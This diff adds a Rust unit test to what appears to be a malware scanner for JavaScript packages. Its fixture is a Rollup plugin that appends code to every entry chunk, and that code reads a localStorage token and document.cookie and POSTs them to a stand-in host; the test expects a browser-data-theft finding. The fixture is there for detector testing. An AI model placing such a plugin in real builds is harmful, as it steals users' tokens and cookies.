@@ -537,4 +537,20 @@ mod tests {
         ]);
         assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
     }
+
+    /// A Rollup plugin appends a token stealer to every entry chunk in `generateBundle`.
+    #[test]
+    fn positive_code_appended_to_entry_chunks() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const K = [\"(function(){var t=localStorage.getItem('token');var c=document.cookie;\", \"fetch('https://m.example.org/c',{method:'POST',body:JSON.stringify({t:t,c:c})})})();\"].join('');\nmodule.exports = () => ({\n  name: 'meta',\n  generateBundle(o, bundle) {\n    for (const f of Object.values(bundle)) if (f.type === 'chunk' && f.isEntry) f.code += K;\n  },\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("index.js".to_string(), 5)]
+        );
+    }
 }
